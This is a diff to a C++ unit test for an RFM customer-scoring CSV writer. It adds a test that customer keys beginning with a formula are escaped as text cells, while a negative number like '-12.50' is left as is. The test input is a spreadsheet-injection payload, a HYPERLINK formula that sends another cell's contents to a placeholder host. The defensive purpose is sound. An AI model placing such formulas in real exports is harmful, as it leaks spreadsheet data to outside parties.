@@ -30,10 +30,19 @@ TransactionLog TwoCustomers() {
   });
 }
 
-TEST(CsvField, QuotesOnlyWhenNeeded) {
-  EXPECT_EQ(CsvField("plain"), "plain");
-  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
-  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
+TEST(WriteRfmCsv, CustomerKeysAreFormulaProtectedTextCells) {
+  RfmScores rfm;
+  rfm.recency = {5, 1};
+  rfm.frequency = {5, 1};
+  rfm.monetary = {5, 1};
+  rfm.segment = {RfmSegment::kChampions, RfmSegment::kLost};
+  std::ostringstream out;
+  WriteRfmCsv(out, {"=HYPERLINK(\"http://x/?\"&E2,\"open\")", "-12.50"}, rfm);
+  EXPECT_NE(out.str().find(
+                "\n\"'=HYPERLINK(\"\"http://x/?\"\"&E2,\"\"open\"\")\",5,"),
+            std::string::npos)
+      << out.str();
+  EXPECT_NE(out.str().find("\n-12.50,1,"), std::string::npos) << out.str();
 }
 
 TEST(FormatShare, FixedSixDecimalsAndEmptyForNaN) {
